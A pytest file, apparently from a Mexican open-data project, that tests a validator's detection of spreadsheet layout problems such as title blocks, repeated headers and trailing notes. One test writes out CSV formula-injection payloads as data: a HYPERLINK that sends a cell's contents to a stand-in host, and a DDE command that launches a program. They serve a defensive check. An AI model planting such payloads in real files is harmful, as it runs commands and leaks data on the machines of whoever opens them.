"""Tables found the way a person finds them: title block, two-row header, page breaks, notes."""

from __future__ import annotations

from openpyxl import Workbook
from pueblaabierto.data import validate_resource_file

from tests.pipeline.data.conftest import codes, only, terms_for

HEADER = ["accion", "colonia", "fecha_inicio", "monto"]
TERMS = terms_for(HEADER)
DATA = [
    ["Bacheo", "Centro", "2024-01-15", "125000"],
    ["Alumbrado", "La Paz", "2024-02-01", "98000"],
    ["Banquetas", "Analco", "2024-03-10", "40500"],
]


def test_title_block_over_the_header_is_one_finding_and_the_table_is_checked(tmp_path):
    # As exported from a report: agency and programme over the table, a blank line, the header on row 4.
    path = tmp_path / "programa.csv"
    lines = [
        "H. AYUNTAMIENTO DE PUEBLA,,,",
        "Programa Anual de Obra 2024,,,",
        ",,,",
        ",".join(HEADER),
        *[",".join(r) for r in DATA],
        "Mantenimiento,Centro,2024-04-31,1000",  # an impossible date: must still be found
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    findings = validate_resource_file(path, formato="CSV", terms=TERMS, display_name="programa.csv")
    assert sorted(codes(findings)) == ["tipo-invalido", "titulo-sobre-la-tabla"], findings
    title = only(findings, "titulo-sobre-la-tabla")
    assert title.row == 1 and "fila 4" in title.message and "Programa Anual de Obra 2024" in title.message
    assert only(findings, "tipo-invalido").row == 8


def test_header_found_without_dictionary_terms(tmp_path):
    path = tmp_path / "p.csv"
    lines = ["Reporte mensual,,,", ",".join(["Acción", "Colonia", "Fecha", "Monto"]), *[",".join(r) for r in DATA]]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    findings = validate_resource_file(
        path, formato="CSV", terms={"Acción": "", "Colonia": "", "Fecha": "", "Monto": ""}, display_name="p.csv"
    )
    assert codes(findings) == ["titulo-sobre-la-tabla"]


def test_two_row_header_validates_with_the_names_row(tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.append(["Obra", None, "Inversión", None])
    sheet.append(HEADER)
    for row in DATA:
        sheet.append([row[0], row[1], row[2], int(row[3])])
    sheet.merge_cells("A1:B1")
    sheet.merge_cells("C1:D1")
    path = tmp_path / "obras.xlsx"
    book.save(path)
    findings = validate_resource_file(path, formato="XLSX", terms=TERMS, display_name="obras.xlsx")
    assert "columna-sin-diccionario" not in codes(findings) and "termino-sin-columna" not in codes(findings)
    header = only(findings, "varias-filas-encabezado")
    assert header.row == 2 and "fila 1" in header.message
    assert "celdas-combinadas-encabezado" in codes(findings)


def test_page_break_header_notes_and_blank_lines(tmp_path):
    path = tmp_path / "apoyos.csv"
    lines = [
        ",".join(HEADER),
        *[",".join(r) for r in DATA[:2]],
        "",  # a truly empty line: one warning, not one missing cell per column
        ",".join(HEADER),  # header repeated after a page break
        ",".join(DATA[2]),
        ",,,",
        "Fuente: Secretaría de Infraestructura,,,",
        "* Cifras preliminares al 31 de marzo,,,",
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    findings = validate_resource_file(path, formato="CSV", terms=TERMS, display_name="apoyos.csv")
    assert sorted(codes(findings)) == ["encabezado-repetido", "fila-vacia", "notas-bajo-la-tabla"], findings
    assert only(findings, "fila-vacia").row == 4
    assert only(findings, "encabezado-repetido").row == 5
    notes = only(findings, "notas-bajo-la-tabla")
    assert notes.rows == (8, 9) and "Fuente" in notes.message


def test_truly_empty_line_is_one_blank_row(check_csv, tmp_path):
    path = tmp_path / "v.csv"
    path.write_text("a,b,c\n1,2,3\n\n4,5,6\n", encoding="utf-8")
    findings = validate_resource_file(path, formato="CSV", terms=terms_for("abc"), display_name="v.csv")
    assert codes(findings) == ["fila-vacia"]
    assert findings[0].severity.value == "warning"


def test_a_note_between_data_rows_is_still_a_row(check_csv):
    rows = [HEADER, DATA[0], ["Nota: sigue", "", "", ""], DATA[1]]
    findings = check_csv(rows)
    assert "notas-bajo-la-tabla" not in codes(findings)


def test_csv_formula_injection(check_csv):
    rows = [
        ["nombre", "saldo", "liga"],
        ["A", "-150", '=HYPERLINK("http://x.example/?"&A2,"ver")'],
        ["B", "+52 222 000 0000", "-2+3+cmd|' /C calc'!A0"],
        ["C", "- sin dato", "@SUM(1+1)"],
    ]
    findings = check_csv(rows)
    formula = only(findings, "celda-con-formula", "liga")
    assert formula.count == 3 and formula.rows == (2, 3, 4)
    assert not [f for f in findings if f.code == "celda-con-formula" and f.column == "saldo"]


def test_semicolon_table_under_a_title_without_delimiters_names_its_columns(tmp_path):
    path = tmp_path / "x.csv"
    path.write_text(
        "PROGRAMA DE APOYOS 2024\n\nprograma;colonia;colonia;;monto\nBecas;Centro;Centro;x;100\n"
        "Becas;La Paz;La Paz;y;200\nDespensas;Analco;Analco;z;300\n",
        encoding="utf-8",
    )
    findings = validate_resource_file(
        path, formato="CSV", terms={"programa": "", "colonia": "", "monto": ""}, display_name="x.csv"
    )
    assert sorted(codes(findings)) == ["encabezado-duplicado", "encabezado-vacio", "titulo-sobre-la-tabla"]
    assert only(findings, "encabezado-duplicado").column == "colonia"
    empty = only(findings, "encabezado-vacio")
    assert empty.row == 3 and "fila 3" in empty.message


def test_a_header_with_years_as_names_stays_in_row_1(check_csv):
    rows = [["colonia", "2023", "2024"], ["Centro", "12", "15"], ["La Paz", "7", "9"], ["Analco", "3", "4"]]
    findings = check_csv(rows, terms={"colonia": "", "2023": "", "2024": ""})
    assert not [f for f in findings if f.code in ("titulo-sobre-la-tabla", "encabezado-no-en-fila-1")]
    findings = check_csv(rows, terms={})
    assert findings == []
